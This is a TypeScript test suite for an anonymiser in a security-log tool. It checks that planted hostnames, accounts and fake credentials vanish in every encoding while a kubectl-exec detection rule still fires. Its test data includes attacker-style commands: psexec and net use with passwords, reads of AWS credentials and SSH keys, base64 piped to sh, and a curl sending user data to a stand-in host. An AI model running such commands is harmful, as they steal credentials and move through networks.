import assert from 'node:assert/strict';
import { Buffer } from 'node:buffer';
import { readFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { kqlens, withFiles } from './command.js';
import { fileOf, FORMATS, type PlantedEvent } from './planted-events.js';

const HOST = 'zqwks0417';
const OTHER_HOST = 'zqsrv0522';
const ACCOUNT = 'zqalice';
const OTHER_ACCOUNT = 'zqbob';
const DOMAIN = 'ZQCORP';
const DNS = 'zqcorp.zqcontoso.com';
const UPN = `${ACCOUNT}@zqcontoso.com`;
const SID = 'S-1-5-21-1004336348-1177238915-682003330-4417';
const GUID = '7c1f3a52-9b64-4e0d-8a17-5d2e9c40b6f3';
const [IP, OTHER_IP, IP6, MAC] = ['10.77.33.21', '52.97.133.210', '2a02:1450:4001:81b::200e', '00:1a:2b:3c:4d:5e'];
const SECRET = 'Zq9Passw0rd';
const AWS_KEY = 'AKIAZQ7XKEY3PLANTED1';
const AWS_SECRET = 'wJalrXUtnFEMIzqK7MDENGbPxRfiCYZQPLANTED1';
const JWT = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ6cWFsaWNlIn0.zqSignature0123456';
const PEM = 'MIIEpAIBAAKCAQEAzqPlantedPrivateKeyText0123456789';
const SIGNATURE = 'ZqSig7Abcd%2Fefgh%3D';

const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

/** What must not be found again, in lower case. */
const PLANTS: readonly string[] = [
  ...[HOST, OTHER_HOST, ACCOUNT, OTHER_ACCOUNT, DOMAIN, 'zqcontoso', 'Zq Alice Smith', SID.slice(9, 40), GUID],
  ...[IP, OTHER_IP, IP6, MAC, MAC.replaceAll(':', '-'), SECRET, AWS_KEY, AWS_SECRET, PEM, 'ZqSig7Abcd', 'zqstore'],
  ...['zqSignature0123456', 'eyJzdWIiOiJ6cWFsaWNlIn0', '10-77-33-21', 'zqvm0909'],
].map((p) => p.toLowerCase());

/** Command lines, each of which a rule about `kubectl exec` has to hit still. */
const COMMANDS: readonly string[] = [
  `kubectl exec -it web -- net use \\\\${OTHER_HOST}\\c$ /user:${DOMAIN}\\${OTHER_ACCOUNT} ${SECRET}!`,
  `kubectl exec web -- psexec \\\\${OTHER_HOST}.${DNS} -u ${DOMAIN}\\${ACCOUNT} -p ${SECRET} cmd`,
  `kubectl exec web -- type C:\\Users\\${ACCOUNT}\\.aws\\credentials && cat /home/${OTHER_ACCOUNT}/.ssh/id_rsa`,
  `kubectl exec web -- powershell -EncodedCommand ${utf16(`Enter-PSSession ${HOST} ; ping ${IP} # é ${UPN}`)}`,
  `kubectl exec web -- sh -c "echo ${Buffer.from(`ssh ${ACCOUNT}@${IP}`).toString('base64')} | base64 -d | sh"`,
  `kubectl exec web -- sh -c "echo ${Buffer.from(`scp x ${ACCOUNT}@${OTHER_IP}:/`).toString('hex')} | xxd -r -p"`,
  `kubectl exec web -- curl "https://x.example/?u=${encodeURIComponent(UPN)}&p=${encodeURIComponent(`C:\\Users\\${ACCOUNT}\\x`)}"`,
  `kubectl exec web -- curl -u ${ACCOUNT}:${SECRET} https://${OTHER_HOST}.${DNS}:8443/a -H "X-Forwarded-For: ${OTHER_IP}"`,
  `kubectl exec web -- curl -H "Authorization: Bearer ${JWT}" "https://zqstore.blob.core.windows.net/c?sv=1&sig=${SIGNATURE}"`,
  `AWS_SECRET_ACCESS_KEY=${AWS_SECRET} AWS_ACCESS_KEY_ID=${AWS_KEY} kubectl exec web -- aws s3 ls`,
  `kubectl exec web -- mysql -h ${OTHER_HOST} -u ${OTHER_ACCOUNT} -p${SECRET}`,
  `kubectl exec web -- ping ${IP6} ; arp -s ${IP} ${MAC} ; getmac ${MAC.replaceAll(':', '-').toUpperCase()} ; ip-10-77-33-21`,
  `kubectl exec web -- icacls x /grant *${SID}:F ; reg query HKU\\${SID}_Classes ; x {${GUID.toUpperCase()}}`,
  `kubectl exec web -- echo '{"user":"${ACCOUNT}","host":"\\u007a${HOST.slice(1)}","mail":"${UPN.toUpperCase()}"}'`,
  `kubectl exec web -- echo -----BEGIN RSA PRIVATE KEY----- ${PEM} -----END RSA PRIVATE KEY-----`,
  `kubectl exec web -- az vm show --ids /subscriptions/${GUID}/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/zqvm0909`,
  `kubectl exec web -- runas /user:${DOMAIN}\\${OTHER_ACCOUNT} "cmd /c nltest /domain:${DNS}" --password ${SECRET}`,
];

const EVENTS: readonly PlantedEvent[] = COMMANDS.map((command, i) => ({
  time: `2026-11-20T08:15:${String(10 + i)}.1230000Z`,
  host: i % 2 === 0 ? HOST : OTHER_HOST,
  dns: DNS,
  account: i % 3 === 0 ? ACCOUNT : OTHER_ACCOUNT,
  domain: DOMAIN,
  upn: UPN,
  person: 'Zq Alice Smith',
  sid: SID,
  guid: GUID,
  address: IP,
  otherAddress: OTHER_IP,
  mac: MAC,
  command,
  parentCommand: `bash /home/${ACCOUNT}/run.sh --host ${OTHER_HOST} --token ${SECRET}`,
  path: `C:\\Users\\${ACCOUNT}\\bin\\kubectl.exe`,
  folder: `/home/${OTHER_ACCOUNT}/work`,
}));

const RULE = `DeviceProcessEvents
| where ProcessCommandLine has_all ("kubectl", "exec", "web") and FileName has "kubectl"
| project TimeGenerated, DeviceName
`;

/** A text as it stands, and as what it holds in each encoding it could be in. */
function* readings(text: string, depth = 0): Generator<string> {
  yield text.toLowerCase();
  if (depth === 3) return;
  const plain = text.replace(/\\u([0-9a-f]{4})/giu, (_, d: string) => String.fromCharCode(parseInt(d, 16)));
  if (plain !== text) yield* readings(plain, depth + 1);
  for (const [run] of text.matchAll(/[^\s"'&=?<>]*%[0-9a-f]{2}[^\s"'&=?<>]*/giu))
    yield* readings(
      run.replace(/%([0-9a-f]{2})/giu, (_, d: string) => String.fromCharCode(parseInt(d, 16))),
      depth + 1,
    );
  for (const [run] of text.matchAll(/[A-Za-z0-9+/]{12,}={0,2}/gu)) {
    for (const encoding of ['base64', 'hex'] as const)
      for (const inner of ['utf16le', 'utf8'] as const) yield* readings(Buffer.from(run, encoding).toString(inner), 3);
  }
}

function* texts(value: unknown): Generator<string> {
  if (typeof value === 'string') yield value;
  else if (typeof value === 'object' && value !== null)
    for (const [key, item] of Object.entries(value)) {
      yield key;
      yield* texts(item);
    }
}

/** The planted texts that are found again in lines of JSON. */
function found(lines: string): string[] {
  const left: string[] = [];
  for (const line of lines.trimEnd().split('\n')) {
    for (const text of [line, ...texts(JSON.parse(line))])
      for (const reading of readings(text))
        for (const plant of PLANTS) if (reading.includes(plant)) left.push(`${plant} in ${text.slice(0, 200)}`);
  }
  return [...new Set(left)];
}

const rowsOf = (lines: string): Record<string, string>[] =>
  lines
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Record<string, string>);

const processesOf = (lines: string): Record<string, string>[] =>
  rowsOf(lines).filter((r) => r['ProcessCommandLine'] !== undefined);

describe('kqlens events --anonymise', function () {
  this.timeout(120_000);

  it('finds what is planted, where it is not replaced', () =>
    withFiles({ 'a.ndjson': fileOf('ndjson', EVENTS) }, async (path) => {
      const { stdout } = await kqlens('events', path('a.ndjson'), '--convert', 'ndjson');
      const left = found(stdout);
      for (const plant of PLANTS)
        assert.ok(
          left.some((l) => l.startsWith(`${plant} in`)),
          plant,
        );
    }));

  for (const format of FORMATS) {
    it(`${format}: leaves nothing that was planted, in no encoding, and rules hit as before`, () =>
      withFiles({ 'a.log': fileOf(format, EVENTS), 'rule.kql': RULE }, async (path) => {
        const { code, stdout, stderr } = await kqlens('events', path('a.log'), '--anonymise', '--seed', 's');
        assert.equal(code, 0, stderr);
        assert.equal(processesOf(stdout).length, EVENTS.length, stderr);
        assert.equal(found(stdout).slice(0, 3).join('\n'), '');
        for (const plant of PLANTS) assert.ok(!stderr.toLowerCase().includes(plant), `${plant} in ${stderr}`);
        await kqlens('events', path('a.log'), '--anonymise', '--seed', 's', '-q', '-o', path('out/b.ndjson'));
        assert.equal(readFileSync(path('out/b.ndjson'), 'utf8'), stdout);
        const hits = async (file: string): Promise<number> => {
          const run = await kqlens('run', path('rule.kql'), '--events', file, '--format', 'json');
          return (JSON.parse(run.stdout) as { hits: unknown[] }).hits.length;
        };
        assert.equal(await hits(path('a.log')), EVENTS.length);
        assert.equal(await hits(path('out/b.ndjson')), EVENTS.length);
      }));
  }

  it('gives a value the same pseudonym in every format, in columns and within text, and another value another', async () => {
    const seen = new Map<string, Set<string>>();
    const note = (what: string, pseudonym: string | undefined): void => {
      assert.ok(pseudonym !== undefined && pseudonym !== '', what);
      seen.set(what, (seen.get(what) ?? new Set()).add(pseudonym.toLowerCase()));
    };
    for (const format of FORMATS) {
      await withFiles({ 'a.log': gzipSync(fileOf(format, EVENTS)) }, async (path) => {
        const rows = processesOf((await kqlens('events', path('a.log'), '--anonymise', '--seed', 's')).stdout);
        const lines = rows.map((r) => r['ProcessCommandLine']!);
        const part = (at: number, pattern: RegExp): string | undefined => pattern.exec(lines[at]!)?.[1];
        rows.forEach((row, i) => {
          if (row['DeviceName'] !== undefined) note(EVENTS[i]!.host, row['DeviceName'].split('.')[0]);
          const account = row['AccountName'];
          if (account !== undefined && !/^\d+$/u.test(account)) note(EVENTS[i]!.account, account);
        });
        note(OTHER_HOST, part(0, /\\\\(\w+)\\c\$/u));
        note(OTHER_ACCOUNT, part(0, /\/user:\w+\\(\w+)/u));
        note(DOMAIN, part(0, /\/user:(\w+)\\/u));
        note(OTHER_HOST, part(1, /psexec \\\\(\w+)\./u));
        note(ACCOUNT, part(2, /\\Users\\(\w+)\\/u));
        note(OTHER_ACCOUNT, part(2, /\/home\/(\w+)\//u));
        const decoded = Buffer.from(part(3, /-EncodedCommand (\S+)/u)!, 'base64').toString('utf16le');
        note(HOST, /PSSession (\w+)/u.exec(decoded)?.[1]);
        note(IP, /ping ([\d.]+)/u.exec(decoded)?.[1]);
        note(UPN, /# é (\S+)/u.exec(decoded)?.[1]);
        note(ACCOUNT, /^ssh (\w+)@/u.exec(Buffer.from(part(4, /echo (\S+)/u)!, 'base64').toString())?.[1]);
        note(ACCOUNT, /^scp x (\w+)@/u.exec(Buffer.from(part(5, /echo (\S+)/u)!, 'hex').toString())?.[1]);
        note(UPN, decodeURIComponent(part(6, /\?u=([^&]+)/u)!));
        note(ACCOUNT, part(6, /Users%5C(\w+)%5C/u));
        note(OTHER_HOST, part(7, /https:\/\/(\w+)\./u));
        note(IP, part(11, /arp -s ([\d.]+)/u));
        note(MAC, part(11, /arp -s \S+ (\S+)/u));
        note(MAC, part(11, /getmac (\S+)/u)?.replaceAll('-', ':'));
        note(GUID, part(12, /\{(.+)\}/u));
        note(GUID, part(15, /subscriptions\/([^/]+)/u));
      });
    }
    for (const [what, pseudonyms] of seen) assert.equal(pseudonyms.size, 1, `${what}: ${[...pseudonyms].join(', ')}`);
    assert.equal(new Set([...seen.values()].flatMap((s) => [...s])).size, seen.size);
  });
});
